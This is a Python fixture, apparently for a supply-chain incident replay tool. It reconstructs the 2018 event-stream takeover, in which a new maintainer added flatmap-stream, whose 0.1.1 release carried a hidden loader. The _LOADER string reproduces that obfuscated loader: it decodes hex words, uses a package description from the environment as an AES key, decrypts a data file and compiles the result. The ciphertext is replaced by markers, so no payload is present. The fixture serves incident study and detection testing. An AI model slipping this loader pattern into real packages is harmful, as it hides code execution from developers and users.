"""event-stream 3.3.6 with flatmap-stream 0.1.1 (2018-09-09 and 2018-10-05): handed over to a stranger, then a dependency turned.

By the record: 3.3.4 by the old maintainer in 2016, 3.3.5 by a newcomer 779 days later, 3.3.6 four days after that with the new
dependency, clean at first. Four weeks later flatmap-stream 0.1.1 appended a loader to its minified entry: it requires
`test/data.js`, takes the description of the package that is being built as a key, decrypts, and compiles the result. All
words of the loader are hexadecimal in the data. Noticed and taken down on 2018-11-26. The replay counts from 3.3.6.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_STREAM = """var Stream = require('stream').Stream;
exports.through = function (write) { var s = new Stream(); s.write = write; return s; };
"""
_MAP = "module.exports=function(e,t){return function(r,n){t?n(null,e(r)):e(r,n)}};"
_LOADER = (
    '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex").toString()}'
    'var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
    "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));a+=u.final(e(n[9]));"
    'var f=new module.constructor;f.paths=module.paths,f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();'
)
_WORDS = ("crypto", "env", "npm_package_description", "aes256", "createDecipher", "_compile", "hex", "utf8")
_MARKER = b"marker".hex()


def _data() -> str:
    """The data file: two blobs, here markers where the real one had ciphertext, and the words."""
    return "module.exports=" + repr([_MARKER * 40, _MARKER * 140, *(word.encode().hex() for word in _WORDS)])


_OLD, _NEW = "dominictarr", "right9ctrl"
_BOTH = (_OLD, _NEW)
_BAD = Release(
    version="3.3.6",
    at=utc("2018-09-09T08:28:59.503Z"),
    publisher=_NEW,
    maintainers=_BOTH,
    files={"index.js": _STREAM + "exports.flatmap = require('flatmap-stream');\n"},
    depends={"flatmap-stream": "^0.1.0"},
)

INCIDENT = Incident(
    id="event-stream-2018",
    title=(
        "the owner of event-stream gave the project to a stranger, who added the dependency flatmap-stream; four "
        "weeks later, this dependency stole wallets from one application"
    ),
    copy=(
        "our copy of flatmap-stream 0.1.1 decodes hexadecimal words, decrypts a data file with the description of the "
        "parent package as the key, and compiles the result"
    ),
    ecosystem=Ecosystem.NPM,
    at=_BAD.at,
    packages=(
        Package(
            name="event-stream",
            releases=(
                Release(
                    version="3.3.4",
                    at=utc("2016-07-17T07:24:09.767Z"),
                    publisher=_OLD,
                    maintainers=(_OLD,),
                    files={"index.js": _STREAM},
                ),
                Release(
                    version="3.3.5",
                    at=utc("2018-09-05T05:27:47.219Z"),
                    publisher=_NEW,
                    maintainers=_BOTH,
                    files={"index.js": _STREAM},
                ),
                _BAD,
                Release(
                    version="4.0.0",
                    at=utc("2018-09-16T11:18:12Z"),
                    publisher=_NEW,
                    maintainers=(_NEW,),
                    files={"index.js": _STREAM + "exports.flatmap = function (map) { return map; };\n"},
                ),
            ),
        ),
        Package(
            name="flatmap-stream",
            releases=(
                Release(
                    version="0.1.0",
                    at=utc("2018-09-09T08:00:00Z"),
                    publisher="hugeglass",
                    maintainers=("hugeglass",),
                    files={"index.min.js": _MAP},
                    more={"main": "index.min.js"},
                ),
                Release(
                    version="0.1.1",
                    at=utc("2018-10-05T12:00:00Z"),
                    publisher="hugeglass",
                    maintainers=("hugeglass",),
                    files={"index.min.js": _MAP + _LOADER, "test/data.js": _data()},
                    more={"main": "index.min.js"},
                ),
            ),
        ),
    ),
    asks={"event-stream": "^3.3.4"},
    good={"event-stream": "3.3.4"},
    bad={"event-stream": ("3.3.6",), "flatmap-stream": ("0.1.0", "0.1.1")},
    guilty={"flatmap-stream": ("0.1.1",)},
    doors={"event-stream": ("3.3.6",)},
    gone_at=utc("2018-11-26T00:00:00Z"),
    # Issue 116 of the repository; the record has the day alone.
    reported_at=utc("2018-11-20"),
    advisory=Advisory(
        id="GHSA-mh6f-8j2x-4483",
        at=utc("2018-11-26T23:58:21Z"),
        about={"event-stream": ("3.3.6",), "flatmap-stream": ("0.1.1",)},
    ),
    invented=(
        "the publish hours of both releases of flatmap-stream, and releases of event-stream before 3.3.4; a marker replaces "
        "the ciphertext"
    ),
)
